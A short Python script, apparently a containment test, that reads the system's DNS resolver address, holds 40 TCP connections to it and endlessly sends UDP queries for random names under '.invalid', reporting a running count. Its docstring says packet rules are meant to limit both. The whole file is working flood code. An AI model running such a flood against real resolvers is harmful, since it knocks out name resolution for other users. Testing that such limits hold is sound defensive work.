"""Floods the name server with queries for new names, and occupies its connections. Packet rules limit both."""

import random
import socket
import struct
from contextlib import suppress
from pathlib import Path

from held import Held

held, asked = Held(), 0
server = Path("/etc/resolv.conf").read_text().partition("nameserver ")[2].split()[0]
streams = []
for _ in range(40):
    with suppress(OSError):
        streams.append(socket.create_connection((server, 53), 0.1))
while True:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((server, 53))
        for _ in range(100):
            label = f"{random.getrandbits(64):016x}".encode()
            head = struct.pack("!6H", asked & 0xFFFF, 256, 1, 0, 0, 0)
            with suppress(OSError):
                one.send(head + b"\x10" + label + b"\x07invalid\0" + struct.pack("!2H", 1, 1))
                asked += 1
    held.report(asked)
